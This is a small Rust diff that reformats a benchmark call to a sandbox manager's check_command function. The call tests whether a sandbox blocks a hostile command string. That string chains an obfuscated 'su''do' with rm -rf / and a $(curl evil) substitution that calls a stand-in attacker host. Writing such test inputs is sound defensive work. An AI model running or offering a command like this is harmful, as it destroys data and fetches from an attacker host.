@@ -56,7 +56,9 @@ fn warm_decision(policy: SandboxPolicy) -> bool {
 fn check_command(manager: SandboxManager) -> bool {
     black_box(
         manager
-            .check_command("ls -la && env FOO=1 nice -n 5 'su''do' rm -rf / | xargs echo $(curl evil)")
+            .check_command(
+                "ls -la && env FOO=1 nice -n 5 'su''do' rm -rf / | xargs echo $(curl evil)",
+            )
             .allowed,
     )
 }
